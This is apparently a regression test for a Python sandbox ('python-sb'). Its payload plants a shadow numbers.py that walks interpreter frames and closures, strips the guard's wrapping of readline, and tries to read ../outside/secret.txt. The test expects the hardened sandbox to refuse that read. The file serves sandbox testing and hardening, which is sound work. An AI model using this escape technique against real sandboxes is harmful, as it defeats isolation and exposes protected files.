# rule: expose-rw=.
# rule: python-import=*
# expect: file PermissionError

"""Objective: read ../outside/secret.txt through readline's history file functions, after
emptying the guard's private list of the functions it wraps in the modules created later --
reached from the frame of the hidden ``_imp.create_dynamic`` while the original runs.

A ``numbers.py`` of the program's shadows the standard library's; ``_decimal``'s
initialisation imports it while the hidden generator's frame is on the stack, and it walks the
frames (``sys._getframe``: no guard frame among its callers there, ``f_back``, ``f_locals``).
The original was popped before the call, but the frame still named the ``after`` function
that wraps every module created (``wrap_module``): its closure (no audit event) held the list
of the modules and functions to wrap, a plain dict, and ``readline`` came out unwrapped.

Under python-sb with the rules above: ``before`` and ``after`` are taken out of the hidden
generator's list as the original is, and ``after`` is held on the value stack only while the
original runs: the walk finds nothing, and the read is refused.
"""

from _harness import attempt

SPY = '''
import sys

def search(value, depth):
    if depth > 5:
        return
    if type(value) is dict and "readline" in value and "pwd" in value:
        sys.modules["_harness"].FOUND.append(value)
        return
    for cell in getattr(value, "__closure__", None) or ():
        try:
            search(cell.cell_contents, depth + 1)
        except ValueError:
            pass

frame = sys._getframe()
while frame is not None:
    for value in list(frame.f_locals.values()):
        if type(value) is type(search):
            search(value, 0)
    frame = frame.f_back
from _numbers_real import *
'''


def payload():
    import importlib.util
    import sys

    import _harness

    _harness.FOUND = []
    spec = importlib.util.find_spec("numbers")
    with open(spec.origin) as source, open("_numbers_real.py", "w") as copy:
        copy.write(source.read())
    with open("numbers.py", "w") as spy:
        spy.write(SPY)
    sys.modules.pop("numbers", None)
    import decimal  # noqa: F401  (_decimal imports numbers while it is created)

    for wrapped in _harness.FOUND:
        wrapped.pop("readline", None)
    import readline

    readline.clear_history()
    readline.read_history_file("../outside/secret.txt")
    data = readline.get_history_item(1)
    assert data == "the secret", data
    return data


attempt(payload)
